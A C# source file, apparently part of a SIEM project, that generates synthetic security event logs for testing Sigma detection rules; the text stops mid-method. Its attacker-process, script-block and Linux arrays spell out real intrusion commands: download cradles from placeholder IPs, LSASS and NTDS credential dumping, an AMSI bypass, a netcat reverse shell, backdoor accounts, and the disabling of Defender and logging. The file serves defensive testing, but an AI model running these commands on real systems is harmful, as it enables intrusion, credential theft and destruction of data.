using System.Globalization;
using System.Text.Json.Nodes;

namespace Llama3Siem.TestModels;

/// <summary>
/// Security records of our own making, as JSON lines in the shapes the event parser reads, for exercising and
/// measuring Sigma matching: Sysmon (NXLog's flat names, and Winlogbeat's for some process creations),
/// PowerShell script blocks, Security and System logs, CloudTrail, Linux processes on ECS, Suricata DNS.
/// Mostly everyday activity, with attacker command lines, registry keys, scripts and API calls that well-known
/// Sigma rules are written for. Deterministic: the same arguments give the same lines.
/// </summary>
public static class SecurityEventCorpus
{
    private const string SysmonChannel = "Microsoft-Windows-Sysmon/Operational";

    private static readonly DateTimeOffset Start = new(2026, 3, 2, 7, 0, 0, TimeSpan.Zero);

    private static readonly string[] Hosts = ["WS-FIN-07", "WS-HR-02", "WS-DEV-11", "SRV-APP03", "SRV-FILE02", "WS-OPS-05"];
    private static readonly string[] Users = ["j.doe", "a.smith", "m.lopez", "k.ito", "p.nguyen", "svc_backup"];

    /// <summary>Image, original file name, command line, parent image: what a working day starts.</summary>
    private static readonly Process[] EverydayProcesses =
    [
        new(@"C:\Windows\System32\svchost.exe", "svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", @"C:\Windows\System32\services.exe"),
        new(@"C:\Windows\System32\svchost.exe", "svchost.exe", @"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p", @"C:\Windows\System32\services.exe"),
        new(@"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-GB --renderer-client-id=12", @"C:\Program Files\Google\Chrome\Application\chrome.exe"),
        new(@"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService", @"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"),
        new(@"C:\Windows\System32\conhost.exe", "CONHOST.EXE", @"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\explorer.exe", "EXPLORER.EXE", @"C:\Windows\Explorer.EXE", @"C:\Windows\System32\userinit.exe"),
        new(@"C:\Windows\System32\RuntimeBroker.exe", "RuntimeBroker.exe", @"C:\Windows\System32\RuntimeBroker.exe -Embedding", @"C:\Windows\System32\svchost.exe"),
        new(@"C:\Windows\System32\SearchProtocolHost.exe", "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe5_ Global\\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646", @"C:\Windows\System32\SearchIndexer.exe"),
        new(@"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", @"C:\Windows\System32\svchost.exe"),
        new(@"C:\Windows\System32\backgroundTaskHost.exe", "backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", @"C:\Windows\System32\svchost.exe"),
        new(@"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "Outlook.exe", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle", @"C:\Windows\explorer.exe"),
        new(@"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", "Excel.exe", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Users\\{user}\\Documents\\Q1 budget.xlsx\"", @"C:\Windows\explorer.exe"),
        new(@"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe", "Teams.exe", "\"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=gpu-process", @"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe"),
        new(@"C:\Program Files\Git\cmd\git.exe", "git.exe", "git.exe fetch --all --prune", @"C:\Program Files\Microsoft VS Code\Code.exe"),
        new(@"C:\Program Files\dotnet\dotnet.exe", "dotnet.exe", "\"C:\\Program Files\\dotnet\\dotnet.exe\" build src/App -c Release", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
        new(@"C:\Windows\System32\notepad.exe", "NOTEPAD.EXE", "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\{user}\\Desktop\\todo.txt", @"C:\Windows\explorer.exe"),
        new(@"C:\Windows\System32\wbem\WmiPrvSE.exe", "Wmiprvse.exe", @"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", @"C:\Windows\System32\svchost.exe"),
        new(@"C:\Windows\System32\cmd.exe", "Cmd.Exe", "C:\\Windows\\system32\\cmd.exe /c \"C:\\Program Files\\Backup\\nightly.bat\"", @"C:\Windows\System32\svchost.exe"),
        new(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1", @"C:\Windows\System32\svchost.exe"),
        new(@"C:\Windows\System32\msiexec.exe", "msiexec.exe", @"C:\Windows\system32\msiexec.exe /V", @"C:\Windows\System32\services.exe"),
        new(@"C:\Program Files\7-Zip\7z.exe", "7z.exe", "\"C:\\Program Files\\7-Zip\\7z.exe\" x C:\\Users\\{user}\\Downloads\\photos.zip -oC:\\Users\\{user}\\Pictures", @"C:\Windows\explorer.exe"),
        new(@"C:\Windows\System32\ipconfig.exe", "ipconfig.exe", "ipconfig /all", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe", "electron.exe", "\"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=renderer", @"C:\Windows\explorer.exe"),
        new(@"C:\Users\{user}\Documents\Zoë's Tools\notizen.exe", "notizen.exe", "\"C:\\Users\\{user}\\Documents\\Zoë's Tools\\notizen.exe\" Übersicht.txt", @"C:\Windows\explorer.exe"),
    ];

    /// <summary>Command lines from intrusions and red-team tools that SigmaHQ has rules for.</summary>
    private static readonly Process[] AttackerProcesses =
    [
        new(@"C:\Windows\System32\certutil.exe", "CertUtil.exe", @"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Users\Public\a.exe", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", @"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
        new(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"),
        new(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')\"", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", "vssadmin.exe delete shadows /all /quiet", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\wbem\WMIC.exe", "wmic.exe", "wmic shadowcopy delete", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\bcdedit.exe", "bcdedit.exe", "bcdedit /set {default} recoveryenabled No", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\schtasks.exe", "schtasks.exe", @"schtasks /create /sc minute /mo 1 /tn Updater /tr C:\Users\Public\upd.exe /ru SYSTEM", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\net.exe", "net.exe", "net user backdoor P@ssw0rd! /add", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\net.exe", "net.exe", "net localgroup administrators backdoor /add", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\whoami.exe", "whoami.exe", "whoami /priv", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\nltest.exe", "nltestrk.exe", "nltest /domain_trusts /all_trusts", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\reg.exe", "reg.exe", @"reg save HKLM\SAM C:\Windows\Temp\sam.save", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Users\Public\procdump64.exe", "procdump", "procdump64.exe -accepteula -ma lsass.exe lsass.dmp", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\bitsadmin.exe", "bitsadmin.exe", @"bitsadmin /transfer job /download /priority high http://198.51.100.7/a.exe C:\Users\Public\a.exe", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\mshta.exe", "MSHTA.EXE", "mshta.exe http://198.51.100.7/run.hta", @"C:\Windows\explorer.exe"),
        new(@"C:\Windows\System32\regsvr32.exe", "REGSVR32.EXE", "regsvr32 /s /n /u /i:http://198.51.100.7/file.sct scrobj.dll", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\wevtutil.exe", "wevtutil.exe", "wevtutil cl Security", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\netsh.exe", "netsh.exe", "netsh advfirewall set allprofiles state off", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Users\Public\mimikatz.exe", "mimikatz.exe", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\cmd.exe", "Cmd.Exe", @"cmd.exe /c ping -n 1 127.0.0.1 > nul & del C:\Users\Public\a.exe", @"C:\Users\Public\a.exe"),
        new(@"C:\Windows\System32\cmd.exe", "Cmd.Exe", "cmd.exe /c whoami /all & ipconfig /all & net group \"domain admins\" /domain", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"),
        new(@"C:\Windows\System32\wscript.exe", "wscript.exe", @"wscript.exe C:\Users\{user}\AppData\Local\Temp\invoice.js", @"C:\Windows\explorer.exe"),
        new(@"C:\Users\Public\AdFind.exe", "AdFind.exe", "AdFind.exe -f objectcategory=computer -csv name", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Users\Public\rclone.exe", "rclone.exe", "rclone.exe copy C:\\Shares\\HR mega:exfil --no-check-certificate", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\curl.exe", "curl.exe", @"curl.exe -o C:\Users\Public\b.exe http://198.51.100.7/b.exe", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\attrib.exe", "ATTRIB.EXE", @"attrib +h +s C:\Users\Public\upd.exe", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\sc.exe", "sc.exe", @"sc create WinUpdSvc binPath= C:\Windows\wupd.exe start= auto", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\PSEXESVC.exe", "psexesvc.exe", @"C:\Windows\PSEXESVC.exe", @"C:\Windows\System32\services.exe"),
        new(@"C:\Windows\System32\cmd.exe", "Cmd.Exe", "cmd.exe /c copy \\\\10.20.0.22\\ADMIN$\\wupd.exe C:\\Windows\\wupd.exe", @"C:\Windows\System32\wbem\WmiPrvSE.exe"),
        new(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "powershell.exe -ep bypass -c \"Invoke-WebRequest -Uri http://203.0.113.9/x.exe -OutFile $env:TEMP\\x.exe\"", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", @"powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File C:\Users\Public\run.ps1", @"C:\Windows\System32\wscript.exe"),
        new(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", @"powershell Add-MpPreference -ExclusionPath C:\Users\Public", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\wbem\WMIC.exe", "wmic.exe", "wmic /node:10.20.0.22 process call create \"cmd.exe /c C:\\Windows\\wupd.exe\"", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\reg.exe", "reg.exe", "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\reg.exe", "reg.exe", "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /t REG_SZ /d cmd.exe", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\net.exe", "net.exe", @"net share C=C:\ /grant:everyone,FULL", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\net.exe", "net.exe", "net view /all /domain", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\icacls.exe", "iCACLS.EXE", @"icacls C:\Windows\System32\sethc.exe /grant Everyone:F", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\esentutl.exe", "esentutl.exe", @"esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\temp\ntds.dit", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\ntdsutil.exe", "ntdsutil.exe", "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe", "MSBuild.exe", @"MSBuild.exe C:\Users\Public\payload.xml", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\cmstp.exe", "CMSTP.EXE", @"cmstp.exe /ni /s C:\Users\Public\a.inf", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\fsutil.exe", "fsutil.exe", "fsutil usn deletejournal /D C:", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\findstr.exe", "FINDSTR.EXE", "findstr /si password *.xml *.txt *.config", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\certutil.exe", "CertUtil.exe", @"certutil -encode C:\Users\Public\a.exe C:\Users\Public\a.txt", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", @"rundll32.exe C:\Users\Public\a.dll,DllRegisterServer", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\hh.exe", "HH.exe", "hh.exe http://198.51.100.7/a.chm", @"C:\Windows\explorer.exe"),
        new(@"C:\Windows\System32\msiexec.exe", "msiexec.exe", "msiexec /q /i http://198.51.100.7/a.msi", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Users\Public\PsExec64.exe", "psexec.c", @"PsExec64.exe \\10.20.0.22 -accepteula -s -d cmd.exe", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Users\Public\plink.exe", "Plink", "plink.exe -R 3389:127.0.0.1:3389 tunnel@203.0.113.9 -pw secret", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Users\Public\ngrok.exe", "ngrok.exe", "ngrok.exe tcp 3389", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\nltest.exe", "nltestrk.exe", "nltest /dclist:corp.acmeridge.local", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\tasklist.exe", "tasklist.exe", "tasklist /v /fi \"imagename eq lsass.exe\"", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\systeminfo.exe", "sysinfo.exe", "systeminfo", @"C:\Windows\System32\cmd.exe"),
        new(@"C:\Windows\System32\cmd.exe", "Cmd.Exe", @"cmd.exe /c echo open 203.0.113.9 > C:\Users\Public\ftp.txt", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
    ];

    private static readonly (string Image, string Destination, string Host, string Port)[] Connections =
    [
        (@"C:\Program Files\Google\Chrome\Application\chrome.exe", "142.250.74.46", "www.google.com", "443"),
        (@"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "20.190.159.2", "login.microsoftonline.com", "443"),
        (@"C:\Windows\System32\svchost.exe", "10.20.0.10", "srv-dc01.corp.acmeridge.local", "389"),
        (@"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "52.97.146.2", "outlook.office365.com", "443"),
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "203.0.113.9", "", "4444"),
        (@"C:\Windows\System32\rundll32.exe", "185.234.72.19", "update-cdn-check.xyz", "443"),
        (@"C:\Users\Public\rclone.exe", "66.203.125.14", "g.api.mega.co.nz", "443"),
    ];

    private static readonly (string Image, string Loaded, string OriginalFileName)[] ImageLoads =
    [
        (@"C:\Program Files\Google\Chrome\Application\chrome.exe", @"C:\Windows\System32\kernel32.dll", "kernel32"),
        (@"C:\Windows\explorer.exe", @"C:\Windows\System32\shell32.dll", "SHELL32.DLL"),
        (@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", @"C:\Windows\System32\mscoree.dll", "mscoree.dll"),
        (@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll", "clr.dll"),
        (@"C:\Users\Public\a.exe", @"C:\Windows\System32\dbghelp.dll", "DBGHELP.DLL"),
        (@"C:\Users\Public\a.exe", @"C:\Windows\System32\vaultcli.dll", "vaultcli.dll"),
        (@"C:\Windows\System32\svchost.exe", @"C:\Windows\System32\wbem\wbemcomn.dll", "wbemcomn.dll"),
    ];

    private static readonly (string Source, string Target, string Access)[] ProcessAccesses =
    [
        (@"C:\Windows\System32\svchost.exe", @"C:\Windows\System32\lsass.exe", "0x1000"),
        (@"C:\Program Files\Windows Defender\MsMpEng.exe", @"C:\Windows\System32\lsass.exe", "0x1400"),
        (@"C:\Users\Public\a.exe", @"C:\Windows\System32\lsass.exe", "0x1010"),
        (@"C:\Windows\System32\rundll32.exe", @"C:\Windows\System32\lsass.exe", "0x1FFFFF"),
    ];

    private static readonly (string Image, string Target)[] FileCreations =
    [
        (@"C:\Program Files\Google\Chrome\Application\chrome.exe", @"C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_00a1b2"),
        (@"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", @"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QX2\invoice.docm"),
        (@"C:\Windows\System32\svchost.exe", @"C:\Windows\Prefetch\CHROME.EXE-6A4B8E3F.pf"),
        (@"C:\Windows\System32\rundll32.exe", @"C:\temp\lsass.dmp"),
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\upd.lnk"),
        (@"C:\Windows\System32\certutil.exe", @"C:\Users\Public\a.exe"),
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Windows\Temp\__PSScriptPolicyTest_x1b3kq2c.ps1"),
        (@"C:\Windows\System32\svchost.exe", @"C:\Windows\System32\Tasks\Updater"),
        (@"C:\Windows\System32\esentutl.exe", @"C:\temp\ntds.dit"),
        (@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", @"C:\Users\{user}\AppData\Local\Temp\invoice.hta"),
        (@"C:\Windows\System32\cmd.exe", @"C:\Windows\Temp\procdump64.exe"),
    ];

    private static readonly (string Image, string Key, string Details)[] RegistrySets =
    [
        (@"C:\Windows\System32\svchost.exe", @"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1004\\Device\HarddiskVolume2\Windows\explorer.exe", "Binary Data"),
        (@"C:\Windows\explorer.exe", @"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.xlsx\MRUListEx", "Binary Data"),
        (@"C:\Windows\System32\reg.exe", @"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater", @"C:\Users\Public\upd.exe"),
        (@"C:\Windows\System32\reg.exe", @"HKCU\Software\Classes\ms-settings\Shell\Open\command\(Default)", @"C:\Users\Public\a.exe"),
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware", "DWORD (0x00000001)"),
        (@"C:\Windows\System32\reg.exe", @"HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential", "DWORD (0x00000001)"),
        (@"C:\Windows\System32\reg.exe", @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger", @"C:\Windows\System32\cmd.exe"),
        (@"C:\Windows\System32\reg.exe", @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit", @"C:\Windows\system32\userinit.exe,C:\Users\Public\upd.exe"),
        (@"C:\Windows\System32\reg.exe", @"HKCU\Environment\UserInitMprLogonScript", @"C:\Users\Public\logon.bat"),
        (@"C:\Windows\System32\reg.exe", @"HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections", "DWORD (0x00000000)"),
        (@"C:\Windows\System32\services.exe", @"HKLM\System\CurrentControlSet\Services\WinUpdSvc\ImagePath", @"C:\Users\Public\upd.exe"),
    ];

    private static readonly (string Image, string Query)[] DnsQueries =
    [
        (@"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "outlook.office365.com"),
        (@"C:\Program Files\Google\Chrome\Application\chrome.exe", "www.bing.com"),
        (@"C:\Windows\System32\svchost.exe", "settings-win.data.microsoft.com"),
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "raw.githubusercontent.com"),
        (@"C:\Windows\System32\rundll32.exe", "update-cdn-check.xyz"),
        (@"C:\Users\Public\a.exe", "4b2f.ngrok-free.app"),
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "pastebin.com"),
    ];

    private static readonly string[] ScriptBlocks =
    [
        "Get-ChildItem -Path C:\\Scripts -Filter *.log | Remove-Item",
        "Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv users.csv",
        "$s = Get-Service -Name Spooler; if ($s.Status -ne 'Running') { Start-Service Spooler }",
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        "$bytes = [System.Convert]::FromBase64String($payload); [System.Reflection.Assembly]::Load($bytes)",
        "Get-ADComputer -Filter * | Select-Object Name; Get-NetDomainTrust",
        "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true",
        "Get-WmiObject -Class Win32_Shadowcopy | ForEach-Object { $_.Delete() }",
        "Invoke-BloodHound -CollectionMethod All -OutputDirectory C:\\Users\\Public",
        "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444); $s = $c.GetStream()",
        "Add-MpPreference -ExclusionPath 'C:\\Users\\Public'",
        "Clear-EventLog -LogName Security; Remove-Item C:\\Windows\\Temp\\*.log",
        "Compress-Archive -Path C:\\Shares\\HR -DestinationPath C:\\Users\\Public\\hr.zip",
        "Get-ADGroupMember -Identity 'Domain Admins' -Recursive",
    ];

    private static readonly string[] CloudTrailCalls =
    [
        "s3.amazonaws.com/GetObject", "s3.amazonaws.com/ListObjects", "ec2.amazonaws.com/DescribeInstances",
        "sts.amazonaws.com/GetCallerIdentity", "sts.amazonaws.com/AssumeRole", "signin.amazonaws.com/ConsoleLogin",
        "cloudtrail.amazonaws.com/StopLogging", "cloudtrail.amazonaws.com/DeleteTrail", "iam.amazonaws.com/CreateAccessKey",
        "iam.amazonaws.com/AttachUserPolicy", "s3.amazonaws.com/PutBucketPolicy", "guardduty.amazonaws.com/DeleteDetector",
        "ec2.amazonaws.com/ModifyInstanceAttribute", "secretsmanager.amazonaws.com/GetSecretValue",
        "ec2.amazonaws.com/CreateKeyPair", "iam.amazonaws.com/CreateLoginProfile", "iam.amazonaws.com/PutUserPolicy",
        "config.amazonaws.com/StopConfigurationRecorder", "kms.amazonaws.com/ScheduleKeyDeletion", "ec2.amazonaws.com/DeleteFlowLogs",
        "ec2.amazonaws.com/AuthorizeSecurityGroupIngress", "organizations.amazonaws.com/LeaveOrganization", "s3.amazonaws.com/DeleteBucketPolicy",
    ];

    private static readonly Process[] LinuxProcesses =
    [
        new("/usr/bin/bash", "", "bash -c ls -la /var/log", "/usr/sbin/sshd"),
        new("/usr/bin/systemctl", "", "systemctl status nginx", "/usr/bin/bash"),
        new("/usr/bin/python3", "", "/usr/bin/python3 /opt/app/worker.py --queue default", "/usr/lib/systemd/systemd"),
        new("/usr/bin/curl", "", "curl -s http://198.51.100.7/x.sh | bash", "/usr/bin/bash"),
        new("/usr/bin/base64", "", "base64 -d /tmp/.x", "/usr/bin/bash"),
        new("/usr/bin/crontab", "", "crontab -l", "/usr/bin/bash"),
        new("/usr/bin/chmod", "", "chmod +x /tmp/.x/kworker", "/usr/bin/bash"),
        new("/usr/sbin/iptables", "", "iptables -F", "/usr/bin/sudo"),
        new("/usr/bin/nc", "", "nc -e /bin/sh 203.0.113.9 4444", "/usr/bin/bash"),
        new("/usr/sbin/useradd", "", "useradd -o -u 0 -g 0 backdoor", "/usr/bin/sudo"),
        new("/usr/bin/wget", "", "wget http://198.51.100.7/kworker -O /tmp/kworker", "/usr/bin/bash"),
        new("/usr/bin/python3", "", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", "/usr/bin/nc"),
        new("/usr/bin/cat", "", "cat /etc/shadow", "/usr/bin/bash"),
        new("/usr/bin/systemctl", "", "systemctl disable auditd", "/usr/bin/sudo"),
        new("/usr/bin/rm", "", "rm -rf /var/log/auth.log", "/usr/bin/bash"),
    ];

    private static readonly string[] DnsNames =
    [
        "outlook.office365.com", "www.bing.com", "login.microsoftonline.com", "update-cdn-check.xyz", "4b2f.ngrok-free.app",
        "api.telegram.org", "time.windows.com",
    ];

    /// <summary>
    /// The kinds of record and how often each comes, out of 1,000: process creations, network connections,
    /// image loads, file and registry writes and DNS queries dominate Windows telemetry, then logons.
    /// </summary>
    private static readonly (Func<Context, JsonObject> Make, int PerThousand)[] Mix =
    [
        (SysmonProcess, 140), (SecurityProcess, 40), (SysmonNetwork, 110), (SysmonImageLoad, 100), (SysmonProcessAccess, 30),
        (SysmonFile, 80), (SysmonRegistry, 80), (SysmonDns, 80), (PowerShellScript, 30), (Logon, 90), (FailedLogon, 20),
        (SpecialLogon, 20), (ServiceInstall, 5), (CloudTrail, 80), (LinuxProcess, 40), (SuricataDns, 55),
    ];

    /// <summary><paramref name="count"/> records with the mix of a working day, attacks among them.</summary>
    public static IReadOnlyList<string> Mixed(int count, int seed = 1)
    {
        var random = DeterministicRandom.For(seed, "security-event-corpus");
        var total = Mix.Sum(m => m.PerThousand);
        var lines = new List<string>(count);
        for (var i = 0; i < count; i++)
        {
            var pick = (int)(random.NextUInt64() % (ulong)total);
            var kind = 0;
            while (pick >= Mix[kind].PerThousand)
            {
                pick -= Mix[kind++].PerThousand;
            }

            lines.Add(Mix[kind].Make(new Context(i, random)).ToJsonString());
        }

        return lines;
    }

    /// <summary>Every template of every kind once (each attacker command line, each registry key), in the given case variant.</summary>
    public static IReadOnlyList<string> EveryTemplate(bool shuffleCase = false)
    {
        var random = DeterministicRandom.For(1, "security-event-corpus-templates");
        var lines = new List<string>();
        var n = 0;
        JsonObject Next(Func<Context, JsonObject> make, int template) =>
            make(new Context(n++, random) { Template = template, ShuffleCase = shuffleCase });

        foreach (var i in Enumerable.Range(0, EverydayProcesses.Length + AttackerProcesses.Length))
        {
            lines.Add(Next(SysmonProcess, i).ToJsonString());
            lines.Add(Next(SecurityProcess, i).ToJsonString());
        }

        AddAll(Connections.Length, SysmonNetwork);
        AddAll(ImageLoads.Length, SysmonImageLoad);
        AddAll(ProcessAccesses.Length, SysmonProcessAccess);
        AddAll(FileCreations.Length, SysmonFile);
        AddAll(RegistrySets.Length, SysmonRegistry);
        AddAll(DnsQueries.Length, SysmonDns);
        AddAll(ScriptBlocks.Length, PowerShellScript);
        AddAll(CloudTrailCalls.Length, CloudTrail);
        AddAll(LinuxProcesses.Length, LinuxProcess);
        AddAll(DnsNames.Length, SuricataDns);
        AddAll(4, Logon);
        AddAll(2, FailedLogon);
        AddAll(1, SpecialLogon);
        AddAll(2, ServiceInstall);
        return lines;

        void AddAll(int templates, Func<Context, JsonObject> make)
        {
            for (var i = 0; i < templates; i++)
            {
                lines.Add(Next(make, i).ToJsonString());
            }
        }
    }

    private static JsonObject SysmonProcess(Context context)
    {
        var process = context.Process(EverydayProcesses, AttackerProcesses);
        var user = context.User;

        // One in four through Winlogbeat, as ECS with the event data under winlog.event_data.
        if (context.Index % 4 == 3)
        {
            return new JsonObject
            {
                ["@timestamp"] = context.Time.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'", CultureInfo.InvariantCulture),
                ["agent"] = new JsonObject { ["type"] = "winlogbeat", ["version"] = "8.12.2" },
